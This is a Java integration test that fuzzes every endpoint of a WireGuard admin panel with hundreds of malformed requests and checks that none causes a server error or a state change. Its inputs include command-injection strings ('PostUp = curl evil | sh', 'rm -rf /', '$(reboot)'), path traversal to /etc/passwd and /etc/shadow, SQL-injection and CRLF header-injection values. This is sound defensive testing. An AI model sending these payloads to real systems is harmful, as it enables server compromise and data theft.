package io.candypanel.bootstrap.admin;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hundreds of generated bad requests against every endpoint of the whole panel, each with a valid
 * admin session: wrong types, nulls on required fields, huge numbers, control characters and
 * newlines in names, path traversal in every path segment, truncated and malformed JSON, wrong
 * methods and media types. No answer may be a 5xx; every answer of the JSON API must be the
 * envelope; and none of these requests may change anything (clients, interfaces, settings, API
 * tokens, the audit log, backups, the server config file, the share link, the admin password).
 */
class HostileInputFullStackIT {
    private static final int AT_LEAST = 200;
    private static final String API_TOKEN = "hostile-sweep-token-0123456789abcdefghijkl";

    @TempDir
    Path work;
    private Panel panel;
    private ApiClient admin;
    private String shareToken;

    /** How a probe's answers are checked beyond "no 5xx". */
    enum Kind {
        /** The JSON API: every answer is the envelope; a refusal is {@code success: false} with a code. */
        API,
        /** A JSON route whose success is not the envelope ({@code /check}, {@code /metrics}, OpenAPI): errors are the envelope. */
        API_ERRORS_ONLY,
        /** Share pages and PNG images: only "no 5xx" is required. */
        RAW
    }

    record Probe(String description, String method, String target, Map<String, String> headers, byte[] body, Kind kind,
                 boolean mustBeRefused) {
    }

    @BeforeEach
    void start() throws Exception {
        panel = new Panel(work).start();
        admin = panel.installAndLogin();
        // The start-up auto-backup runs on its own thread; let it finish so the backup list is stable.
        Panel.awaitTrue("the start-up backup exists", () -> admin.ok("backup", "list", "{}").path("backups").size() > 0);
        assertEquals(200, admin.createClient("alice").status());
        assertEquals(200, admin.createClient("bob").status());
        admin.ok("client", "update", "{\"name\":\"bob\",\"status\":false,\"note\":\"disabled on purpose\"}");
        shareToken = admin.ok("client", "share", "{\"name\":\"alice\"}").path("share_url").asText().substring(3);
        admin.ok("api_token", "create_or_update", "{\"name\":\"sweeper\",\"token\":\"" + API_TOKEN + "\"}");
        admin.ok("setting", "update", "{\"key\":\"telegram_bot_token\",\"value\":\"123456:ABCdefGHIjklMNOpqrSTUvwxYZ0123456789\"}");
    }

    @AfterEach
    void stop() {
        panel.close();
    }

    @Test
    void hostileRequestsToEveryEndpointAreRefusedWithoutAServerErrorAndChangeNothing() throws Exception {
        ObjectNode before = Panel.state(admin);
        JsonNode backupsBefore = admin.ok("backup", "list", "{}").path("backups");
        byte[] wg0Before = Files.readAllBytes(panel.wgDir().resolve("wg0.conf"));
        String shareConfigBefore = admin.get("/s/" + shareToken + "/config").text();

        List<Probe> probes = generate();
        Map<Integer, Integer> histogram = new TreeMap<>();
        Map<String, Integer> byRoute = new TreeMap<>();
        List<String> problems = new ArrayList<>();
        List<String> notes = new ArrayList<>();
        for (Probe probe : probes) {
            RawHttp.Response response = RawHttp.send(panel.port(), probe.method(), probe.target(), probe.headers(), probe.body());
            histogram.merge(response.status(), 1, Integer::sum);
            byRoute.merge(aimedAt(probe), 1, Integer::sum);
            check(probe, response, problems, notes);
        }

        System.out.println("Hostile full-stack sweep: sent " + probes.size() + " generated requests; status histogram " + histogram);
        System.out.println("Hostile full-stack sweep: requests per endpoint aimed at " + byRoute);
        notes.forEach(note -> System.out.println("Hostile full-stack sweep, note: " + note));
        problems.forEach(problem -> System.out.println("Hostile full-stack sweep, PROBLEM: " + problem));
        panel.clock.advance(Duration.ofMinutes(2)); // past the window of the failed logins among the probes
        assertAll(
                () -> assertTrue(probes.size() >= AT_LEAST, "only " + probes.size() + " requests generated"),
                () -> assertEquals(List.of(), problems, problems.size() + " of " + probes.size() + " answers broke the rules"),
                () -> assertEquals(before, Panel.state(admin), "the rejected requests changed the database"),
                () -> assertEquals(backupsBefore, admin.ok("backup", "list", "{}").path("backups"), "no backup was made or restored"),
                () -> assertArrayEquals(wg0Before, Files.readAllBytes(panel.wgDir().resolve("wg0.conf")), "wg0.conf is unchanged"),
                () -> assertEquals(shareConfigBefore, panel.anonymous().get("/s/" + shareToken + "/config").text(), "the share link still works"),
                () -> assertEquals(200, new ApiClient(panel.port(), API_TOKEN).get("/api/data").status(), "the API token still works"),
                () -> assertEquals(200, admin.get("/api/data").status(), "the admin session survived the sweep"),
                () -> assertEquals(200, panel.anonymous().tryLogin(Panel.PASSWORD).status(), "the admin password is unchanged"));
    }

    /**
     * An ISO date far outside the range of epoch milliseconds ({@code +999999999-01-01}, which
     * {@code LocalDate} parses) is a caller's mistake like any other invalid expiry: 400 naming the
     * field, nothing stored. Found by the sweep above; kept as its own case so the report is plain.
     */
    @Test
    void anExpiryBeyondTheRangeOfTheDatabaseIsA400NotA500() {
        ObjectNode before = Panel.state(admin);
        List<org.junit.jupiter.api.function.Executable> checks = new ArrayList<>();
        for (String expires : List.of("+999999999-01-01", "-999999999-01-01", "+292278994-08-18T00:00:00Z")) {
            ApiClient.Reply create = admin.manage("client", "create", "{\"name\":\"far-future\",\"expires\":\"" + expires + "\",\"traffic\":0}");
            ApiClient.Reply update = admin.manage("client", "update", "{\"name\":\"alice\",\"expires\":\"" + expires + "\"}");
            checks.add(() -> assertEquals(400, create.status(), "create with expires " + expires + ": " + create));
            checks.add(() -> assertTrue(create.message().toLowerCase().contains("expir"), "create with expires " + expires + ": " + create));
            checks.add(() -> assertEquals(400, update.status(), "update with expires " + expires + ": " + update));
            checks.add(() -> assertTrue(update.message().toLowerCase().contains("expir"), "update with expires " + expires + ": " + update));
        }
        assertAll("an expiry outside the database's range", checks);
        assertEquals(before, Panel.state(admin), "nothing was stored");
    }

    /** The endpoint (method and route template) a probe is aimed at, before its path was mangled. */
    private static String aimedAt(Probe probe) {
        String description = probe.description();
        if (description.startsWith("segment ") || description.contains(" + ")) {
            String template = description.startsWith("segment ")
                    ? description.substring(description.indexOf(" of ") + 4, description.indexOf(" = "))
                    : description.substring(0, description.indexOf(" + "));
            return probe.method() + " " + template.replace("/clients/alice/", "/clients/{name}/") + " (mangled path)";
        }
        String path = probe.target().contains("?") ? probe.target().substring(0, probe.target().indexOf('?')) : probe.target();
        if (path.startsWith("/s/")) {
            path = path.replaceFirst("^/s/[^/]+", "/s/{token}");
        }
        if (path.startsWith("/api/clients/")) {
            path = "/api/clients/{name}/qr.png";
        }
        return probe.method() + " " + path;
    }

    private void check(Probe probe, RawHttp.Response response, List<String> problems, List<String> notes) {
        String what = probe.description() + " [" + probe.method() + " " + shorten(probe.target()) + "] -> " + response.status()
                + " " + shorten(response.text());
        if (response.status() >= 500) {
            problems.add("server error: " + what);
            return;
        }
        if (probe.mustBeRefused() && response.status() < 400) {
            problems.add("accepted although it is invalid: " + what);
            return;
        }
        boolean error = response.status() >= 400;
        if (!error) {
            notes.add("answered " + response.status() + " (allowed for this probe): " + what);
        }
        if (probe.kind() == Kind.RAW) {
            if (error && !isEnvelope(response, false)) {
                notes.add("a share/PNG route answered an error without the JSON envelope: " + what);
            }
            return;
        }
        if (error || probe.kind() == Kind.API) {
            if (!isEnvelope(response, !error)) {
                problems.add("not the JSON envelope: " + what + " (Content-Type " + response.header("Content-Type") + ")");
            }
        }
    }

    private static boolean isEnvelope(RawHttp.Response response, boolean success) {
        String contentType = response.header("Content-Type");
        if (contentType == null || !contentType.startsWith("application/json")) {
            return false;
        }
        JsonNode body;
        try {
            body = ApiClient.JSON.readTree(response.body());
        } catch (Exception e) {
            return false;
        }
        if (body == null || !body.isObject() || !body.path("success").isBoolean() || body.path("success").booleanValue() != success
                || !body.path("message").isTextual() || body.path("message").asText().isBlank()) {
            return false;
        }
        return success || (body.path("code").isTextual() && !body.path("code").asText().isBlank());
    }

    // ------------------------------------------------------------------ generation

    private List<Probe> generate() {
        List<Probe> probes = new ArrayList<>();
        clientActions(probes);
        interfaceActions(probes);
        settingActions(probes);
        apiTokenActions(probes);
        backupSyncAndAuditActions(probes);
        envelopeLevel(probes);
        authActions(probes);
        methodsAndMediaTypes(probes);
        pathTraversal(probes);
        return probes;
    }

    /** Names that are not valid client names, as JSON values: wrong types, control characters, traversal, overlong. */
    private static final List<String> BAD_NAMES = List.of("null", "123", "true", "[]", "{}", "[\"alice\"]", "\"\"", "\" \"",
            "\"a b\"", "\"a\\nb\"", "\"alice\\n\"", "\"a\\r\\nb\"", "\"a\\u0000b\"", "\"tab\\tname\"", "\"../etc/passwd\"", "\"..\"",
            "\"a/b\"", "\"a\\\\b\"", "\"" + "x".repeat(65) + "\"", "\"\\u540d\\u524d\"", "\"\\u202eevil\"", "\"<script>\"",
            "\"a;rm -rf /\"", "\"%2e%2e\"", "\"alice\\u0007\"", "99999999999999999999999999", "1.5");

    private void clientActions(List<Probe> probes) {
        int n = 0;
        for (String name : BAD_NAMES) {
            manage(probes, "client create, name " + name, "client", "create",
                    "{\"name\":" + name + ",\"expires\":\"2027-01-01\",\"traffic\":0}");
            for (String action : List.of("delete", "get_config", "reset_traffic", "share", "unshare")) {
                manage(probes, "client " + action + ", name " + name, "client", action, "{\"name\":" + name + "}");
            }
            manage(probes, "client update, name " + name, "client", "update", "{\"name\":" + name + ",\"status\":false}");
        }
        for (String action : List.of("delete", "get_config", "reset_traffic", "share", "unshare", "update")) {
            manage(probes, "client " + action + " of an unknown client", "client", action, "{\"name\":\"ghost\",\"status\":true}");
            manage(probes, "client " + action + " without a name", "client", action, "{\"status\":true}");
        }
        for (String expires : List.of("null", "\"\"", "\"tomorrow\"", "\"2027-13-01\"", "\"2027-02-30\"", "\"2020-01-01\"", "1893456000", "\"-999999999-01-01\"",
                "true", "[]", "{}", "\"2027-01-01T00:00:00Z\\n\"", "\"" + "2027".repeat(40) + "\"", "\"+999999999-01-01\"")) {
            manage(probes, "client create, expires " + expires, "client", "create",
                    "{\"name\":\"h" + (n++) + "\",\"expires\":" + expires + ",\"traffic\":0}");
            if (!expires.equals("null") && !expires.equals("\"2020-01-01\"")) {
                manage(probes, "client update, expires " + expires, "client", "update", "{\"name\":\"alice\",\"expires\":" + expires + "}");
            }
        }
        for (String traffic : List.of("null", "-1", "\"-1\"", "1.5", "1e30", "\"1e3\"", "99999999999999999999999", "\"99999999999999999999\"",
                "\"abc\"", "\"10 GB\"", "\"0x10\"", "true", "[]", "{}", "\"\"", "\"\\u0661\\u0662\"", "9".repeat(5000))) {
            manage(probes, "client create, traffic " + shorten(traffic), "client", "create",
                    "{\"name\":\"h" + (n++) + "\",\"expires\":\"2027-01-01\",\"traffic\":" + traffic + "}");
            if (!traffic.equals("null")) {
                manage(probes, "client update, traffic " + shorten(traffic), "client", "update", "{\"name\":\"alice\",\"traffic\":" + traffic + "}");
            }
        }
        for (String wgId : List.of("-1", "\"x\"", "1.5", "99", "\"0x0\"", "true", "[]", "{}", "2147483648", "\"1 OR 1=1\"")) {
            manage(probes, "client create, wg_id " + wgId, "client", "create",
                    "{\"name\":\"h" + (n++) + "\",\"expires\":\"2027-01-01\",\"traffic\":0,\"wg_id\":" + wgId + "}");
        }
        for (String note : List.of("5", "true", "[]", "{}", "\"line\\nbreak\"", "\"bell\\u0007\"", "\"" + "n".repeat(5000) + "\"")) {
            manage(probes, "client create, note " + shorten(note), "client", "create",
                    "{\"name\":\"h" + (n++) + "\",\"expires\":\"2027-01-01\",\"traffic\":0,\"note\":" + note + "}");
            manage(probes, "client update, note " + shorten(note), "client", "update", "{\"name\":\"alice\",\"note\":" + note + "}");
        }
        for (String status : List.of("\"false\"", "0", "1", "\"yes\"", "{}", "[]", "\"true\\n\"")) {
            manage(probes, "client update, status " + status, "client", "update", "{\"name\":\"alice\",\"status\":" + status + "}");
        }
        manage(probes, "client create, duplicate name", "client", "create", "{\"name\":\"alice\",\"expires\":\"2027-01-01\",\"traffic\":0}");
        manage(probes, "client update enabling a client with a bad quota", "client", "update", "{\"name\":\"bob\",\"status\":true,\"traffic\":-5}");
    }

    private void interfaceActions(List<Probe> probes) {
        for (String range : List.of("null", "5", "[]", "{}", "\"\"", "\"10.9.0.1\"", "\"10.9.0.1/33\"", "\"10.9.0.0/24\"", "\"10.9.0.255/24\"",
                "\"300.1.1.1/24\"", "\"10.9.0.1/24\\nPostUp = curl evil | sh\"", "\"10.9.0.1/24; iptables -F\"", "\"$(reboot)/24\"",
                "\"10.0.0.1/16\"", "\"10.0.0.5/24\"", "\"fd00::1/64\"", "\"10.9.0.1/-8\"", "\"10.9.0.1/99999999999999999999\"",
                "\"" + "1".repeat(10_000) + "/24\"")) {
            manage(probes, "interface create, address_range " + shorten(range), "interface", "create",
                    "{\"address_range\":" + range + ",\"port\":51821}");
        }
        for (String port : List.of("null", "-1", "0", "65536", "\"abc\"", "1.5", "true", "[]", "{}", "\"51821\\n\"", "51820",
                "99999999999999999999999", "1e3")) {
            manage(probes, "interface create, port " + port, "interface", "create", "{\"address_range\":\"10.9.0.1/24\",\"port\":" + port + "}");
        }
        for (String name : List.of("null", "5", "[]", "\"\"", "\"wg\"", "\"wg7\"", "\"wg0\\n\"", "\"wg0; rm -rf /\"", "\"../wg0\"",
                "\"WG0\"", "\"wg-1\"", "\"wg99999999999999999999\"", "\"wg\\u0660\"")) {
            manage(probes, "interface update, name " + name, "interface", "update", "{\"name\":" + name + ",\"status\":false}");
        }
        for (String field : List.of("\"port\":-1", "\"port\":\"x\"", "\"port\":70000", "\"port\":1.5", "\"status\":\"false\"", "\"status\":0",
                "\"status\":{}", "\"address\":5", "\"address\":\"10.0.0.1/33\"", "\"address\":\"10.1.0.1/24\"",
                "\"address\":\"10.0.0.1/24\\r\\n[Peer]\"", "\"address\":[\"10.0.0.1/24\"]")) {
            manage(probes, "interface update wg0, " + field, "interface", "update", "{\"name\":\"wg0\"," + field + "}");
        }
        for (String id : List.of("null", "-1", "\"x\"", "1.5", "99", "7", "\"0x0\"", "\"1 OR 1=1\"", "true", "[]", "{}",
                "99999999999999999999", "\"\\u0660\"", "-0.0")) {
            manage(probes, "interface delete, wg_id " + id, "interface", "delete", "{\"wg_id\":" + id + "}");
        }
    }

    private void settingActions(List<Probe> probes) {
        for (String key : List.of("null", "5", "[]", "{}", "\"\"", "\"no_such_key\"", "\"MTU\"", "\"mtu\\n\"", "\"mtu \"",
                "\"install\"", "\"status\"", "\"bandwidth\"", "\"uptime\"", "\"next_interface_restart\"", "\"last_traffic_reset\"",
                "\"admin\"", "\"session_token\"", "\"../mtu\"", "\"" + "k".repeat(3000) + "\"")) {
            manage(probes, "setting update, key " + shorten(key), "setting", "update", "{\"key\":" + key + ",\"value\":\"1\"}");
        }
        Map<String, List<String>> badValues = new LinkedHashMap<>();
        badValues.put("mtu", List.of("null", "1279", "9001", "-1", "\"abc\"", "1400.0", "1e3", "true", "[]", "{}", "\"14 00\"",
                "99999999999999999999999"));
        badValues.put("dns", List.of("\"\"", "\"evil.example\"", "\"8.8.8.8\\n1.1.1.1\"", "\"8.8.8.8;rm\"", "5", "[\"8.8.8.8\"]"));
        badValues.put("ipv6_dns", List.of("\"8.8.8.8\"", "\"::1::2\"", "\"fd00::1\\nX\""));
        badValues.put("custom_endpont", List.of("\"\"", "\"a b\"", "\"host\\nPostUp = evil\"", "\"-bad-.example\"", "\"1.2.3\"",
                "\"" + "h".repeat(300) + "\""));
        badValues.put("server_ip", List.of("\"\"", "\"not an ip\"", "\"10.0.0.1/24\""));
        badValues.put("reset_time", List.of("-1", "8761", "\"x\""));
        badValues.put("auto_backup", List.of("2", "\"yes\"", "true", "-1"));
        badValues.put("telegram_bot_status", List.of("2", "\"on\""));
        badValues.put("telegram_bot_admin_id", List.of("\"abc\"", "-5", "\"12 34\""));
        badValues.put("telegram_bot_token", List.of("\"abc\"", "\"123456:short\"", "\"123456:ABC\\ndefGHIjklMNOpqrSTUvwxYZ0123\"", "5"));
        badValues.put("admin_card_number", List.of("\"1234\\u00005678\"", "\"" + "9".repeat(200) + "\""));
        badValues.put("prices", List.of("\"cheap\"", "[1,2]", "{\"1GB\":-1,\"1Month\":1}", "{\"1GB\":1}", "{\"1GB\":\"1\",\"1Month\":1}",
                "\"{\\\"1GB\\\": 1\"", "42", "{\"1GB\":1e999,\"1Month\":1}"));
        badValues.put("alert", List.of("\"not json\"", "{\"a\":1}", "[1,2]", "\"[\\\"unterminated\""));
        badValues.put("session_ttl_hours", List.of("0", "8761", "-1", "\"day\""));
        badValues.put("sync_interval_seconds", List.of("0", "4", "3601", "\"fast\""));
        badValues.put("traffic_reset_day", List.of("29", "-1", "31", "\"first\""));
        badValues.forEach((key, values) -> {
            for (String value : values) {
                manage(probes, "setting update, " + key + " = " + shorten(value), "setting", "update",
                        "{\"key\":\"" + key + "\",\"value\":" + value + "}");
            }
        });
        manage(probes, "setting update without a value", "setting", "update", "{\"key\":\"mtu\"}");
    }

    private void apiTokenActions(List<Probe> probes) {
        String good = "\"" + "t".repeat(40) + "\"";
        for (String name : List.of("null", "5", "[]", "\"\"", "\"a b\"", "\"../x\"", "\"x\\ny\"", "\"" + "n".repeat(65) + "\"", "\"\\u540d\"")) {
            manage(probes, "api_token create_or_update, name " + shorten(name), "api_token", "create_or_update",
                    "{\"name\":" + name + ",\"token\":" + good + "}");
            manage(probes, "api_token delete, name " + shorten(name), "api_token", "delete", "{\"name\":" + name + "}");
        }
        for (String token : List.of("null", "\"short\"", "\"" + "t".repeat(31) + "\"", "\"" + "t".repeat(513) + "\"",
                "\"" + "with space ".repeat(4) + "\"", "\"" + "t".repeat(40) + "\\n\"", "\"" + "t".repeat(40) + "\\u0000\"",
                "\"" + "\\u00e9".repeat(40) + "\"", "12345678901234567890123456789012345", "[]", "{}", "true")) {
            manage(probes, "api_token create_or_update, token " + shorten(token), "api_token", "create_or_update",
                    "{\"name\":\"hostile\",\"token\":" + token + "}");
        }
        manage(probes, "api_token delete of an unknown name", "api_token", "delete", "{\"name\":\"ghost\"}");
        manage(probes, "api_token create_or_update replacing the sweeper with a weak token", "api_token", "create_or_update",
                "{\"name\":\"sweeper\",\"token\":\"weak\"}");
    }

    private void backupSyncAndAuditActions(List<Probe> probes) {
        for (String data : List.of("\"now\"", "[]", "42", "true")) {
            manage(probes, "sync trigger, data " + data, "sync", "trigger", data);
            manage(probes, "backup create, data " + data, "backup", "create", data);
            manage(probes, "backup list, data " + data, "backup", "list", data);
        }
        for (String name : List.of("null", "5", "[]", "{}", "\"\"", "\"..\"", "\".\"", "\"../candypanel.db\"", "\"candypanel.db\"",
                "\"/etc/passwd\"", "\"../../../../etc/shadow\"", "\"backups/../candypanel.db\"", "\"..%2fcandypanel.db\"",
                "\"candypanel-20990101-000000-000.db\"", "\"candypanel-20000101-000000-000.db\\n\"", "\"setup-token\"",
                "\"\\u0000\"", "\"" + "b".repeat(500) + "\"")) {
            manage(probes, "backup restore, name " + shorten(name), "backup", "restore", "{\"name\":" + name + "}");
        }
        for (String paging : List.of("\"page\":0", "\"page\":-1", "\"page\":\"x\"", "\"page\":1.5", "\"page\":true", "\"size\":0",
                "\"size\":501", "\"size\":-1", "\"size\":\"all\"", "\"size\":[]", "\"page\":2147483647,\"size\":500",
                "\"page\":99999999999999999999")) {
            manage(probes, "audit list, " + paging, "audit", "list", "{" + paging + "}");
        }
    }

    private void envelopeLevel(List<Probe> probes) {
        for (String resource : List.of("\"clients\"", "\"CLIENT\"", "\"client\\n\"", "5", "null", "[]", "{}", "\"\"", "\"../client\"")) {
            post(probes, "manage, resource " + resource, "/api/manage", "{\"resource\":" + resource + ",\"action\":\"create\",\"data\":{}}");
        }
        for (String action : List.of("\"drop\"", "\"create\\n\"", "\"CREATE\"", "5", "null", "\"\"", "[\"create\"]")) {
            post(probes, "manage, action " + action, "/api/manage", "{\"resource\":\"client\",\"action\":" + action + ",\"data\":{}}");
        }
        for (String data : List.of("\"x\"", "[]", "5", "true")) {
            post(probes, "manage client create, data " + data, "/api/manage", "{\"resource\":\"client\",\"action\":\"create\",\"data\":" + data + "}");
        }
        List<String> malformed = List.of("", " ", "{", "}", "[]", "null", "\"client\"", "42", "{\"resource\":\"client\",",
                "{\"resource\": \"client\", \"action\": \"create\", \"data\": {\"name\": \"al", "{'resource':'client'}",
                "{\"resource\":\"client\",}", "{\"a\": NaN}", "{\"a\": 01}", "{} {}", "{\"resource\":\"client\"} trailing",
                "{\"resource\":\"client\",\"resource\":\"interface\",\"action\":\"delete\",\"wg_id\":0}",
                "{\"resource\":\"client\",\"action\":\"create\",\"name\":\"h-raw\",\"expires\":\"2027-01-01\",\"traffic\":0 /* comment */}",
                "{\"data\": " + "[".repeat(50_000) + "]".repeat(50_000) + "}",
                "{\"resource\":\"client\",\"action\":\"create\",\"name\":\"h-big\",\"expires\":\"2027-01-01\",\"traffic\":" + "9".repeat(5000) + "}");
        for (String body : malformed) {
            post(probes, "manage, malformed body " + shorten(body), "/api/manage", body);
            if (body.length() < 200) {
                post(probes, "auth, malformed body " + shorten(body), "/api/auth", body);
            }
        }
        byte[] invalidUtf8 = {'{', '"', 'r', 'e', 's', 'o', 'u', 'r', 'c', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'};
        probes.add(new Probe("manage, invalid UTF-8", "POST", "/api/manage", headers("application/json"), invalidUtf8, Kind.API, true));
        probes.add(new Probe("auth, invalid UTF-8", "POST", "/api/auth", headers("application/json"), invalidUtf8, Kind.API, true));
        byte[] utf16 = "{\"resource\":\"backup\",\"action\":\"list\"}".getBytes(StandardCharsets.UTF_16);
        probes.add(new Probe("manage backup list as UTF-16", "POST", "/api/manage", headers("application/json"), utf16, Kind.API, false));
    }

    private void authActions(List<Probe> probes) {
        for (String action : List.of("\"LOGIN\"", "\"login\\n\"", "5", "null", "[]", "\"\"", "\"install\\u0000\"", "\"logout \"",
                "\"Logout\"", "[\"logout\"]", "\"change-password\"")) {
            post(probes, "auth, action " + action, "/api/auth", "{\"action\":" + action + ",\"username\":\"admin\",\"password\":\"x\"}");
        }
        for (String fields : List.of("\"username\":5,\"password\":\"x\"", "\"username\":\"admin\",\"password\":[]",
                "\"username\":null,\"password\":\"x\"", "\"username\":\"admin\"", "\"password\":\"x\"", "\"username\":{},\"password\":{}",
                "\"username\":\"admin\\u0000\",\"password\":\"" + Panel.PASSWORD + "\"",
                "\"username\":\"" + "u".repeat(10_000) + "\",\"password\":\"x\"")) {
            post(probes, "login, " + shorten(fields), "/api/auth", "{\"action\":\"login\"," + fields + "}");
        }
        for (int i = 0; i < 6; i++) {
            post(probes, "login with a wrong password #" + (i + 1), "/api/auth",
                    "{\"action\":\"login\",\"username\":\"admin\",\"password\":\"wrong-" + i + "\"}");
        }
        for (String fields : List.of("\"server_ip\":\"203.0.113.10\",\"wg_port\":51820,\"admin_password\":\"takeover-pass\"",
                "\"server_ip\":5,\"wg_port\":\"x\"", "\"server_ip\":\"203.0.113.10\\nX\",\"wg_port\":51820", "\"wg_port\":-1")) {
            post(probes, "install again, " + shorten(fields), "/api/auth", "{\"action\":\"install\"," + fields + "}");
        }
        for (String fields : List.of("\"current_password\":5,\"new_password\":\"long-enough-1\"",
                "\"current_password\":null,\"new_password\":\"long-enough-1\"", "\"current_password\":\"" + Panel.PASSWORD + "\"",
                "\"current_password\":\"" + Panel.PASSWORD + "\",\"new_password\":null",
                "\"current_password\":\"" + Panel.PASSWORD + "\",\"new_password\":[]",
                "\"current_password\":\"" + Panel.PASSWORD + "\",\"new_password\":\"short\"",
                "\"current_password\":\"" + Panel.PASSWORD + "\",\"new_password\":\"\"",
                "\"current_password\":\"wrong\",\"new_password\":\"long-enough-1\"",
                "\"current_password\":\"wrong\",\"new_password\":\"new\\u0000password-1\"",
                "\"current_password\":[\"" + Panel.PASSWORD + "\"],\"new_password\":\"long-enough-1\"")) {
            post(probes, "change_password, " + shorten(fields), "/api/auth", "{\"action\":\"change_password\"," + fields + "}");
        }
        // A logout must not slip through in a form the panel should refuse.
        probes.add(new Probe("logout as text/plain", "POST", "/api/auth", headers("text/plain"),
                "{\"action\":\"logout\"}".getBytes(StandardCharsets.UTF_8), Kind.API, true));
        probes.add(new Probe("logout as a form", "POST", "/api/auth", headers("application/x-www-form-urlencoded"),
                "action=logout".getBytes(StandardCharsets.UTF_8), Kind.API, true));
        post(probes, "logout, truncated", "/api/auth", "{\"action\":\"logout\"");
        probes.add(new Probe("logout by GET", "GET", "/api/auth?action=logout", headers(null), null, Kind.API, true));
    }

    private void methodsAndMediaTypes(List<Probe> probes) {
        String create = "{\"resource\":\"client\",\"action\":\"create\",\"data\":{\"name\":\"media-probe\",\"expires\":\"2027-01-01\",\"traffic\":0}}";
        for (String type : List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
                "text/json", "application/jsonx", "application/javascript", "*/*", "application", "image/png", "text/html; charset=utf-8")) {
            probes.add(new Probe("client create as " + type, "POST", "/api/manage", headers(type),
                    create.getBytes(StandardCharsets.UTF_8), Kind.API, true));
        }
        for (String method : List.of("GET", "PUT", "DELETE", "PATCH", "OPTIONS")) {
            for (String path : List.of("/api/manage", "/api/auth")) {
                probes.add(new Probe(method + " on a POST route", method, path, headers("application/json"),
                        method.equals("GET") ? null : create.getBytes(StandardCharsets.UTF_8), Kind.API, true));
            }
        }
        for (String method : List.of("POST", "PUT", "DELETE", "PATCH")) {
            for (String path : List.of("/api/data", "/check", "/metrics", "/api/openapi.json")) {
                probes.add(new Probe(method + " on a GET route", method, path, headers("application/json"),
                        create.getBytes(StandardCharsets.UTF_8), Kind.API_ERRORS_ONLY, true));
            }
            for (String path : List.of("/s/" + shareToken, "/s/" + shareToken + "/config", "/s/" + shareToken + "/qr.png",
                    "/api/clients/alice/qr.png")) {
                probes.add(new Probe(method + " on a share/PNG route", method, path, headers("application/json"),
                        create.getBytes(StandardCharsets.UTF_8), Kind.RAW, true));
            }
        }
        for (String query : List.of("?name=../../etc/passwd", "?%00=%0a", "?" + "q".repeat(4000), "?resource=client&action=delete&name=alice")) {
            probes.add(new Probe("GET /api/data with query " + shorten(query), "GET", "/api/data" + query, headers(null), null, Kind.API, false));
        }
    }

    /** Every segment of every route replaced by traversal, encoded separators, control characters and overlong text. */
    private void pathTraversal(List<Probe> probes) {
        List<String> variants = List.of("..", "%2e%2e", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fcandypanel.db", "....//",
                "..;", "%00", "%0a", "%0d%0aX-Injected:%20yes", "%ff%fe", "~root", "%252e%252e", "alice%00.png", "x".repeat(3000));
        Map<String, String> routes = new LinkedHashMap<>();
        routes.put("/check", "GET");
        routes.put("/api/auth", "POST");
        routes.put("/api/manage", "POST");
        routes.put("/api/data", "GET");
        routes.put("/api/clients/alice/qr.png", "GET");
        routes.put("/api/openapi.json", "GET");
        routes.put("/s/" + shareToken, "GET");
        routes.put("/s/" + shareToken + "/config", "GET");
        routes.put("/s/" + shareToken + "/qr.png", "GET");
        routes.put("/metrics", "GET");
        routes.forEach((path, method) -> {
            String[] segments = path.substring(1).split("/");
            Kind kind = path.startsWith("/s/") || path.endsWith(".png") || path.endsWith(".json") ? Kind.RAW : Kind.API_ERRORS_ONLY;
            for (int i = 0; i < segments.length; i++) {
                for (String variant : variants) {
                    String[] changed = segments.clone();
                    changed[i] = variant;
                    String target = "/" + String.join("/", changed);
                    byte[] body = method.equals("POST")
                            ? (path.equals("/api/auth") ? "{\"action\":\"check\"}" : "{\"resource\":\"backup\",\"action\":\"list\"}")
                            .getBytes(StandardCharsets.UTF_8) : null;
                    probes.add(new Probe("segment " + i + " of " + route(path) + " = " + shorten(variant), method, target,
                            headers(method.equals("POST") ? "application/json" : null), body, kind, true));
                }
            }
            for (String suffix : List.of("/", "/..", "/%2e%2e/", "//", "/.")) {
                probes.add(new Probe(route(path) + " + " + suffix, method, path + suffix,
                        headers(method.equals("POST") ? "application/json" : null),
                        method.equals("POST") ? "{}".getBytes(StandardCharsets.UTF_8) : null, kind, false));
            }
        });
    }

    // ------------------------------------------------------------------ helpers

    private void manage(List<Probe> probes, String description, String resource, String action, String data) {
        post(probes, description, "/api/manage", "{\"resource\":\"" + resource + "\",\"action\":\"" + action + "\",\"data\":" + data + "}");
    }

    private void post(List<Probe> probes, String description, String path, String json) {
        probes.add(new Probe(description, "POST", path, headers("application/json"), json.getBytes(StandardCharsets.UTF_8), Kind.API, true));
    }

    private Map<String, String> headers(String contentType) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", "Bearer " + admin.token());
        headers.put("Content-Type", contentType);
        return headers;
    }

    private String route(String target) {
        String path = target.contains("?") ? target.substring(0, target.indexOf('?')) : target;
        return shareToken == null ? path : path.replace(shareToken, "{token}");
    }

    private static String shorten(String text) {
        String oneLine = text.replace("\r", "\\r").replace("\n", "\\n");
        return oneLine.length() > 120 ? oneLine.substring(0, 120) + "...(" + oneLine.length() + " chars)" : oneLine;
    }
}
